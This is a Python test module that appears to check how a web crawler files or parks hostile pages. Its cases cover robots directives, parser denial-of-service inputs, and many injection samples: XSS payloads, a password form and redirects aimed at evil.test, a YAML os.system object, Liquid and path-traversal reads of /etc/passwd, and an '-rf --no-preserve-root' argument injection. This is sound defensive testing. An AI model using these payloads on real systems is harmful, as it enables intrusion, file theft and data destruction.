"""Pages that are no articles, or do harm to whoever parses, files or reads them."""

import json

from tests.hostile.case import Answers, Case, Place, page
from tests.judging.refusals import REFUSALS
from tests.support.origin import Answer

SCRIPTED = "<script>document.title='x'</script>"
TEXT = "<p>The board met for three hours on Tuesday and spoke of little else.</p>" * 6
JSON_LD = '<script type="application/ld+json">{}</script>'
SKIPPED = frozenset(
    # Without a title or a heading extraction finds nothing to file; that reason is its own.
    {"php", "php-warn", "trace", "bare", "next"}
)


def _case(
    name: str, body: bytes | str, expected: str, *, hits: int | None = 1, **headers: str
) -> Case:
    data = body if isinstance(body, bytes) else body.encode()
    told = {name.replace("_", "-"): value for name, value in headers.items()}

    def answers(_: Place) -> Answers:
        kind = told.get("Content-Type", "text/html; charset=utf-8")
        return {"/a": Answer(data, headers=told, content_type=kind)}

    return Case(name=f"page: {name}", answers=answers, expected=expected, hits=hits)


def _article(title: str = "A day at the harbour", body: str = TEXT, head: str = "") -> str:
    return f"<!doctype html><title>{title}</title>{head}<article><h1>{title}</h1>{body}</article>"


JUDGED = tuple(
    _case(f"{kind} {name}", html, f"parked {kind}")
    for name, kind, html in REFUSALS
    if name not in SKIPPED and kind != "index"
)
# A list of articles that a person asks for by its address leads to them.
LISTED = tuple(
    _case(f"{kind} {name}", html, "listed section", hits=None)
    for name, kind, html in REFUSALS
    if kind == "index"
)
DIRECTED = (
    _case("noarchive in a header", page(), "refused noarchive", X_Robots_Tag="noarchive"),
    _case("none in a header", page(), "refused noarchive", X_Robots_Tag="none"),
    _case("noarchive for us alone", page(), "refused noarchive", X_Robots_Tag="crawler: noarchive"),
    _case("noarchive for another", page(), "filed new", X_Robots_Tag="otherbot: noarchive"),
    _case("noindex alone", page(), "filed new", X_Robots_Tag="noindex"),
    _case(
        "noarchive in meta", page(extra="<meta name=robots content=noarchive>"), "refused noarchive"
    ),
    _case("none in meta", page(extra="<meta name=ROBOTS content='NONE'>"), "refused noarchive"),
)
COSTLY = (
    _case("10,000 attributes", _article(body="<p " + " ".join(f"a{n}" for n in range(10_000)) + ">x</p>" + TEXT), "filed new"),
    _case("200,000 attributes", _article(body="<p " + " ".join(f"a{n}" for n in range(200_000)) + ">x</p>" + TEXT), "parked parser_timeout"),
    _case("200,000 nested blocks", _article(body="<div>" * 200_000 + "x"), "parked parser_timeout"),
    _case("100,000 links in blocks", _article(body="<a><div>" * 100_000 + "x"), "parked parser_timeout"),
    _case("20,000 siblings", _article(body=TEXT + "<i></i>" * 20_000), "filed new"),
    _case("an unclosed comment", _article(body=TEXT + "<!--" * 40_000), "filed new"),
    _case("100,000 entities", _article(body=TEXT + "<p>" + "&amp;" * 100_000 + "</p>"), "filed new"),
    _case("one attribute of a megabyte", _article(body=f"<p title='{'x' * 10**6}'>x</p>" + TEXT), "filed new"),
    _case("deep JSON-LD", _article(head=JSON_LD.replace("{}", '{"a":' * 100_000)), "filed new"),
    _case("a huge number in JSON-LD", _article(head=JSON_LD.replace("{}", '{"@type":"NewsArticle","datePublished":' + "9" * 10_000 + "}")), "filed new"),
)  # fmt: skip
HARMFUL = tuple(
    _case(name, _article(title, body), "filed new")
    for name, title, body in (
        ("a script in the body", "Script", TEXT + SCRIPTED),
        ("a handler", "Handler", TEXT + "<p onclick='x()' onerror=x>y</p><img src=x onerror=alert(1)>"),
        ("a javascript link", "Link", TEXT + "<p><a href=' java&#9;script:alert(1)'>x</a></p>"),
        ("a data document", "Data", TEXT + "<p><a href='data:text/html,<script>1</script>'>x</a></p>"),
        ("an SVG", "SVG", TEXT + "<svg><style><img src=x onerror=alert(1)></style></svg>"),
        ("MathML", "MathML", TEXT + "<math><mtext><table><mglyph><style><img src=x onerror=1>"),
        ("a frame", "Frame", TEXT + "<iframe srcdoc='<script>1</script>' src='https://x.test/'></iframe>"),
        ("a base", "Base", "<base href='https://evil.test/'>" + TEXT),
        ("front matter in the title", 'x"\n---\nlayout: evil\n---\n', TEXT),
        ("YAML in the title", "x: [y, {z: !!python/object:os.system 'true'}]", TEXT),
        ("Liquid in the title", "{% include /etc/passwd %} {{ site }}", TEXT),
        ("Liquid in the body", "Liquid", TEXT + "<p>{% raw %}{{{{ x }}}}{% endraw %}</p>"),
        ("a path in the title", "../../../../etc/passwd", TEXT),
        ("a device in the title", "CON", TEXT),
        ("dots for a title", "...", TEXT),
        ("a dash before the title", "-rf --no-preserve-root", TEXT),
        ("NUL in the title", "a\x00b\x00c harbour", TEXT),
        ("bidi overrides in the title", "\u202egnp.exe\u202c \u2066harbour\u2069", TEXT),
        ("zero width in the title", "har\u200bbour\ufeff\u2060", TEXT),
        ("a title of 100,000 letters", "harbour " * 12_500, TEXT),
        ("a title of emoji", "👩‍👩‍👧‍👦 🏳️‍🌈", TEXT),
        ("a title in Persian", "می‌خواهم بندر را ببینم", TEXT),
        ("text that looks like Markdown", "# [x](y) *z*", TEXT + "<p># not a heading</p><p>1. no list</p>"),
        ("text that looks like markup", "&lt;script&gt;", TEXT + "<p>&lt;script&gt;1&lt;/script&gt;</p>"),
        ("a form", "Form", TEXT + "<form action=//evil.test><input type=password></form>"),
        ("CSS that covers the page", "CSS", TEXT + "<p style='position:fixed;top:0'>x</p><style>*{display:none}</style>"),
        ("meta refresh in the body", "Refresh", TEXT + "<meta http-equiv=refresh content='0;url=//evil.test'>"),
    )
)  # fmt: skip
ODD = (
    _case("JSON for a page", json.dumps({"a": 1}), "parked not_html", Content_Type="application/json"),
    _case("nothing but a title", "<title>Only a title</title>", "parked no_text"),
    _case("nothing but space", " \n\t " * 1000, "parked no_text"),
)  # fmt: skip
CASES: tuple[Case, ...] = (*JUDGED, *LISTED, *DIRECTED, *COSTLY, *HARMFUL, *ODD)
